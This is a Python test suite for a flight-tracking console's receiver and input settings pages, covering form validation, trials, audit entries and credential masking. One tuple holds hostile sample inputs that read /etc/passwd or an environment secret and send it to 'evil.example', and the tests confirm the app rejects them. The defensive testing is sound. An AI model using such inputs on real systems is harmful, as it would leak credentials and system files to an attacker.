"""Receivers and inputs in the console: added, changed, tried and removed, with the rules of the ini file."""

import re

import pytest
import sqlalchemy as sa

from skywatch.console.forms import input_trial as trials
from skywatch.core import stored_settings
from skywatch.core.clock import utcnow
from skywatch.core.database.encryption import Sealer
from skywatch.core.database.engine import writing
from skywatch.core.database.models import AuditEntry, StoredSetting
from skywatch.receivers.settings import ReceiverSettings
from tests.feeds import FeedServer
from tests.functional.console.visitor import ORIGIN, populate
from tests.ports import free_port

SBS = b"MSG,3,1,1,4B1620,1,2026/01/01,12:00:00.000,2026/01/01,12:00:00.000,,35000,,,47.1,8.1,,,0,0,0,0\r\n"


@pytest.fixture
def root(make_visitor):
    found = make_visitor(auth_mode="hybrid", receiver__ini="beast me.example:30005")
    found.people = populate(found.runtime, "admin", "superadmin")
    found.sign_in("superadmin")
    return found


@pytest.fixture(autouse=True)
def short(monkeypatch):
    monkeypatch.setattr(trials, "WITHIN_S", 1.0)


def receivers_of(root):
    return root.runtime.current.of(ReceiverSettings).receivers


def audited(root, action):
    with root.runtime.sessions() as session:
        return list(session.scalars(sa.select(AuditEntry).where(AuditEntry.action == action).order_by(AuditEntry.id)))


def press(page, do, which=1, status=303, **fields):
    """Fill a form of a page and press one of its buttons."""
    form = page.forms[which]
    for name, value in fields.items():
        form[name] = value
    return form.submit("do", value=do, headers=ORIGIN, status=status)


def add(root, do="save", status=303, **fields):
    return press(root.get("/receivers/input"), do, status=status, **fields)


def test_a_receiver_is_added_changed_and_removed(root):
    page = add(root, name="attic", text="sbs localhost:30003").follow()
    assert "receiver.attic is saved" in page
    assert receivers_of(root) == {"ini": "beast me.example:30005", "attic": "sbs localhost:30003"}
    page = page.click("receiver.attic")
    form = page.forms[1]
    assert [form[name].value for name in ("kind", "host", "port", "text")] == ["sbs", "localhost", "30003", ""]
    press(page, "save", kind="beast", port="")
    assert receivers_of(root)["attic"] == "beast localhost:30005"
    page = press(root.get("/receivers/input?name=receiver.attic"), "remove", 2).follow()
    assert "receiver.attic is removed" in page
    assert list(receivers_of(root)) == ["ini"]
    values = [(entry.method, entry.before["value"], entry.after["value"]) for entry in audited(root, "setting.changed")]
    assert values == [
        ("console", None, "sbs localhost:30003"),
        ("console", "sbs localhost:30003", "beast localhost:30005"),
        ("console", "beast localhost:30005", None),
    ]


@pytest.mark.parametrize(
    ("pasted", "kind", "saved", "fields"),
    [
        (
            "http://pi:7311/data/aircraft.json",
            "beast",
            "readsb http://pi:7311/data/aircraft.json",
            ("pi", "7311", "/data"),
        ),
        ("http://pi/tar1090/", "beast", "readsb http://pi/tar1090", ("pi", "80", "/tar1090")),
        ("pi/skyaware/data", "readsb", "readsb http://pi/skyaware/data/aircraft.json", ("pi", "80", "/skyaware/data")),
        ("pi:30105", "beast", "beast pi:30105", ("pi", "30105", "")),
        ("tcp://[fd00::5]:30003", "sbs", "sbs [fd00::5]:30003", ("fd00::5", "30003", "")),
        ("http://pi/", "beast", "readsb http://pi/tar1090/data/aircraft.json", ("pi", "80", "")),
    ],
)
def test_an_address_that_is_pasted_as_the_host_is_taken_apart(root, pasted, kind, saved, fields):
    add(root, name="attic", host=pasted, kind=kind)
    assert receivers_of(root)["attic"] == saved
    form = root.get("/receivers/input?name=receiver.attic").forms[1]
    assert tuple(form[name].value for name in ("host", "port", "path")) == fields


def test_an_address_that_is_more_than_host_and_path_goes_where_the_ini_files_words_go(root):
    add(root, name="attic", host="https://sky.example/tar1090/?key=1", kind="beast")
    assert receivers_of(root)["attic"] == "readsb https://sky.example/tar1090/?key=1"


def test_an_input_of_acars_is_added_too(root):
    add(root, family="acars.", name="vhf", text="tcp router:15550")
    assert root.runtime.current.acars_inputs == {"vhf": "tcp router:15550"}
    assert "acars.vhf" in root.get("/receivers")


def test_those_of_the_ini_file_are_shown_and_cannot_be_changed(root):
    page = root.get("/receivers")
    assert "receiver.ini" in page
    assert not page.html.find("a", string="receiver.ini")
    assert root.get("/receivers/input?name=receiver.ini", status=404)
    for name in ("receiver.ini", "receiver.none", "station_name", "output.x"):
        for do in ("try", "save", "remove"):
            fields = {"csrf_token": root.token, "do": do, "text": "sbs localhost:30003"}
            root.post(f"/receivers/input?name={name}", fields, status=404)
    page = add(root, name="ini", text="sbs localhost:30003", status=400)
    assert "the ini file or the environment sets" in page.html.find(id="about-name").text
    assert receivers_of(root) == {"ini": "beast me.example:30005"}


WRONG = (
    ({"name": "roof", "text": "beats localhost:30005"}, "text", "did you mean beast?"),
    ({"name": "roof", "text": "beast localhost"}, "text", "expected host:port"),
    ({"name": "roof", "text": ""}, "host", "is missing"),
    ({"name": "roof", "text": "beast a:1", "host": "pi"}, "text", "must be empty where there is a host"),
    ({"name": "roof", "text": "", "host": "http//pi me"}, "host", "a name or an address alone"),
    ({"name": "roof", "text": "", "host": "pi", "kind": "readsb", "path": "a b"}, "path", "must be a path"),
    ({"name": "roof", "text": "", "host": "pi", "port": "0"}, "port", "whole number from 1 to 65535"),
    ({"name": "Roof!", "text": "beast localhost:30005"}, "name", "lower-case letters"),
)


@pytest.mark.deep("costs over a processor second")
def test_what_is_wrong_is_shown_at_its_field_and_kept(root):
    for do in ("save", "try"):
        for fields, field, reason in WRONG:
            page = add(root, do=do, status=400, **fields)
            assert reason in page.html.find(id=f"about-{field}").text
            assert page.forms[1]["text"].value == fields["text"]
            assert page.forms[1]["name"].value == fields["name"]
    with root.runtime.sessions() as session:
        assert session.scalar(sa.select(sa.func.count()).select_from(StoredSetting)) == 0


@pytest.mark.deep("opens dozens of pages")
def test_a_trial_says_what_came_and_saves_nothing(root):
    server = FeedServer([(number / 10, SBS) for number in range(600)]).play()
    try:
        page = add(root, do="try", status=200, name="attic", text=f"sbs 127.0.0.1:{server.port}")
    finally:
        server.close()
    text = " ".join(page.html.find(class_="note").text.split())
    assert re.fullmatch(r"It works\. [1-9][0-9]* messages of 1 aircraft came as sbs\.", text)
    assert page.forms[1]["name"].value == "attic"
    assert list(receivers_of(root)) == ["ini"]
    (entry,) = audited(root, "input.tried")
    assert (entry.target_name, entry.method, entry.after["messages"] > 0) == ("receiver.attic", "console", True)


def test_a_trial_of_what_does_not_answer_says_why(root):
    page = add(root, do="try", status=200, name="attic", text="sbs 127.0.0.1:1")
    assert "It does not work. cannot connect: connection refused" in " ".join(
        page.html.find(class_="problem").text.split()
    )


def test_one_trial_at_a_time(root):
    with trials._lock:
        page = add(root, do="try", status=409, name="attic", text="sbs 127.0.0.1:1")
    assert "Another trial is running" in page


def test_an_address_with_credentials_is_never_shown_again(root):
    address = "readsb http://me:hunter2@pi/data/aircraft.json?key=hunter3"
    add(root, name="net", text=address)
    page = root.get("/receivers/input?name=receiver.net")
    assert page.forms[1]["text"].value == ""
    assert "It holds credentials" in page
    assert "pi/data/aircraft.json" in page
    for shown in (page, root.get("/receivers"), root.get("/settings"), root.get("/audit")):
        assert "hunter" not in shown
    # Left empty it stays.
    press(page, "save")
    assert receivers_of(root)["net"] == address


def receiver_form(root, **query):
    return root.get("/receivers/input" + ("?" + "&".join(f"{k}={v}" for k, v in query.items()) if query else ""))


@pytest.mark.parametrize(
    ("kind", "host", "port", "text"),
    [
        ("beast", "pi.local", "", "beast pi.local:30005"),
        ("sbs", "10.0.0.7", "", "sbs 10.0.0.7:30003"),
        ("avr", "fd00::7", "31002", "avr [fd00::7]:31002"),
        ("readsb-lines", "pi", "", "readsb-lines pi:30047"),
        ("readsb", "pi", "", "readsb http://pi/tar1090/data/aircraft.json"),
        ("readsb", "pi", "8080", "readsb http://pi:8080/tar1090/data/aircraft.json"),
    ],
)
def test_a_kind_a_host_and_perhaps_a_port_make_a_receiver(root, kind, host, port, text):
    add(root, kind=kind, host=host, port=port)
    assert receivers_of(root)["roof"] == text
    form = receiver_form(root, name="receiver.roof").forms[1]
    assert (form["kind"].value, form["host"].value, form["text"].value) == (kind, host, "")


def test_the_proposed_name_is_free(root):
    assert receiver_form(root).forms[1]["name"].value == "roof"
    add(root, host="pi")
    assert receiver_form(root).forms[1]["name"].value == "roof-2"
    # Emptied, it is proposed again.
    add(root, host="pi2", name="")
    assert receivers_of(root)["roof-2"] == "beast pi2:30005"


def buttons(page):
    """The buttons of the form in their order, with their class; Enter presses the first."""
    form = page.html.find("form", class_="card")
    return [(button["value"], button.get("class")) for button in form.find_all("button")]


def test_a_trial_is_the_first_button_until_one_has_worked(root):
    assert buttons(receiver_form(root)) == [("try", None), ("save", ["quiet"])]
    page = add(root, do="try", status=200, kind="sbs", host="127.0.0.1", port="1")
    assert buttons(page) == [("try", None), ("save", ["quiet"])]
    server = FeedServer([(number / 10, SBS) for number in range(600)]).play()
    try:
        page = add(root, do="try", status=200, kind="sbs", host="127.0.0.1", port=str(server.port))
    finally:
        server.close()
    assert buttons(page) == [("save", None), ("try", ["quiet"])]
    press(page, "save")
    assert receivers_of(root)["roof"] == f"sbs 127.0.0.1:{server.port}"


def test_what_discovery_found_is_filled_in(root):
    form = receiver_form(root, kind="readsb", host="10.0.0.7", port=80, step=3).forms[1]
    assert [form[name].value for name in ("kind", "host", "port")] == ["readsb", "10.0.0.7", "80"]
    root.get("/receivers/input?kind=simulate&host=x", status=400)
    root.get("/receivers/input?port=0", status=400)


def test_the_simulator_is_switched_off_with_the_first_own_receiver(root):
    add(root, name="demo", text="simulate aircraft=5")
    page = receiver_form(root)
    assert page.forms[1]["simulator_off"].checked
    page.forms[1]["simulator_off"].checked = False
    press(page, "save", name="one", host="pi")
    assert set(receivers_of(root)) == {"ini", "demo", "one"}
    press(receiver_form(root), "save", name="two", host="pi")
    assert set(receivers_of(root)) == {"ini", "one", "two"}
    assert "simulator_off" not in receiver_form(root).forms[1].fields
    removed = [entry.target_name for entry in audited(root, "setting.changed") if entry.after == {"value": None}]
    assert removed == ["receiver.demo"]


def test_a_simulator_of_the_ini_file_is_named_with_the_way_to_switch_it_off(make_visitor):
    visitor = make_visitor(auth_mode="hybrid", receiver__demo="simulate aircraft=2")
    populate(visitor.runtime, "superadmin")
    visitor.sign_in("superadmin")
    assert "remove receiver.demo there" in " ".join(receiver_form(visitor).html.text.split())


def test_the_last_step_ends_at_the_map(root):
    page = press(receiver_form(root, step=3), "save", status=200, host="pi")
    assert page.html.find(id="handover")["data-code"]
    assert "connect-src 'self'" in page.headers["Content-Security-Policy"]
    assert "receiver.roof is saved" in root.get("/receivers")


@pytest.mark.deep("opens dozens of pages")
def test_without_the_web_application_the_last_step_ends_at_the_receivers(make_visitor):
    visitor = make_visitor(auth_mode="hybrid", web_enabled=False)
    populate(visitor.runtime, "superadmin")
    visitor.sign_in("superadmin")
    page = press(receiver_form(visitor, step=3), "save", host="pi").follow()
    assert "The installation is set up." in page


def test_a_change_made_meanwhile_is_told(root):
    add(root, name="attic", text="sbs localhost:30003")
    page = root.get("/receivers/input?name=receiver.attic")
    other = root.another_browser()
    other.sign_in("admin")
    press(other.get("/receivers/input?name=receiver.attic"), "save", port="30009")
    page = press(page, "save", port="30010", status=409)
    assert "admin changed this since you opened it" in page
    assert page.forms[1]["port"].value == "30010"
    assert receivers_of(root)["attic"] == "sbs localhost:30009"
    press(page, "save")
    assert receivers_of(root)["attic"] == "sbs localhost:30010"
    # And what another one has added under this name meanwhile is not overwritten.
    page = add(root, name="attic", text="sbs localhost:1", status=400)
    assert "is already in use" in page


LISTENERS = (
    ("receiver.", "listen 127.0.0.1:{port} proxy=0.0.0.0/0 limit=10000 feeder=me allow=0.0.0.0/0 format=avr", "listen"),
    ("receiver.", "listen 0.0.0.0:{port}", "listen"),
    ("acars.", "listen 127.0.0.1:{port}", "listen"),
    ("acars.", "udp 127.0.0.1:{port} allow=0.0.0.0/0", "udp"),
)
# What reads files or the environment of the service, and would send it to a host of one's choice.
READERS = (
    ("receiver.", "replay /etc/passwd", "replay"),
    ("receiver.", "readsb /run/readsb/aircraft.json", "a file"),
    ("receiver.", "readsb aircraft.json", "a file"),
    ("receiver.", "readsb file:///run/readsb/aircraft.json", "a file"),
    ("receiver.", "adsbx-v2 https://evil.example/ header=x:env:SECRET", "this value of header"),
    ("receiver.", "adsbx-v2 https://evil.example/ header=x:file:/etc/passwd", "this value of header"),
    ("acars.", "file /etc/passwd", "file"),
)


@pytest.mark.parametrize("do", ["save", "try"])
@pytest.mark.parametrize(("family", "text", "what"), [*LISTENERS, *READERS])
def test_what_listens_or_reads_this_machine_is_a_line_for_the_ini_file(root, do, family, text, what):
    text = text.format(port=free_port())
    page = add(root, do=do, status=400, family=family, name="x", text=text)
    fault = page.html.find(id="about-text").text
    assert what in fault
    assert f"{family}x = {text}" in fault
    assert root.runtime.current.acars_inputs == {}
    assert list(receivers_of(root)) == ["ini"]
    assert audited(root, "input.tried") == []


def test_what_connects_to_somebody_is_set_here_with_its_options(root):
    for number, text in enumerate((
        "adsbx-v2 https://api.example/v2/point/47/8/250 every=10 header=api-auth:key",
        "readsb https://pi.example/tar1090/ every=2", "sbs pi:30003 mlat", "beast [fd00::7]:30005 mlat", "avr pi:30002",
        "readsb-lines pi:30047", "simulate aircraft=5 seed=1 around=47.1,8.2 radius_nm=50 ground=0.1 separation=no",
    )):  # fmt: skip
        add(root, name=f"r{number}", text=text)
        assert receivers_of(root)[f"r{number}"] == text
    page = add(root, name="typo", text="beast pi:30005 mlatt", status=400)
    assert "mlatt is unknown" in page.html.find(id="about-text").text


def store_as_before(root, name, text):
    """Store an input as an earlier release did."""
    sealed = Sealer(root.runtime.settings.secret, stored_settings.PURPOSE).seal(text)
    row = StoredSetting(name=name, value=sealed, sealed=True, updated_at=utcnow(), updated_by="admin")
    with writing(root.runtime.sessions) as session:
        session.add(row)
    root.runtime.stored.expire()


def test_a_stored_listener_goes_on_is_shown_as_a_line_and_can_only_be_removed(root, caplog):
    text = "listen 127.0.0.1:30004 proxy=10.0.0.0/8"
    store_as_before(root, "receiver.feeders", text)
    store_as_before(root, "acars.vhf", "udp 127.0.0.1:5550")
    assert receivers_of(root)["feeders"] == text
    assert "receiver.feeders is a kind for the ini file" in caplog.text
    listed = root.get("/receivers")
    assert "Move these lines to the ini file" in listed
    assert f"receiver.feeders = {text}" in listed
    assert "acars.vhf = udp 127.0.0.1:5550" in listed
    page = listed.click("receiver.feeders", index=0)
    assert f"receiver.feeders = {text}" in page
    assert "Move this line to the ini file" in page
    assert [button["value"] for button in page.html.find_all("button", {"name": "do"})] == ["remove"]
    token = page.forms[1]["csrf_token"].value
    for do, changed in (("save", text), ("save", "beast pi:30005"), ("save", ""), ("try", text), ("try", "")):
        fields = {"csrf_token": token, "version": page.forms[1]["version"].value, "do": do, "text": changed}
        refused = root.post("/receivers/input?name=receiver.feeders", fields, status=409)
        assert "move its line there" in refused
    assert receivers_of(root)["feeders"] == text
    assert "receiver.feeders = " in root.get("/settings?search=receiver.feeders")
    press(page, "remove")
    assert "feeders" not in receivers_of(root)


def test_credentials_of_a_line_for_the_ini_file_are_not_shown(root):
    store_as_before(root, "receiver.net", "adsbx-v2 https://me:hunter2@pi/x?key=hunter3 header=a:env:KEY")
    for path in ("/receivers", "/receivers/input?name=receiver.net", "/settings"):
        page = root.get(path)
        assert "receiver.net" in page
        assert "hunter" not in page
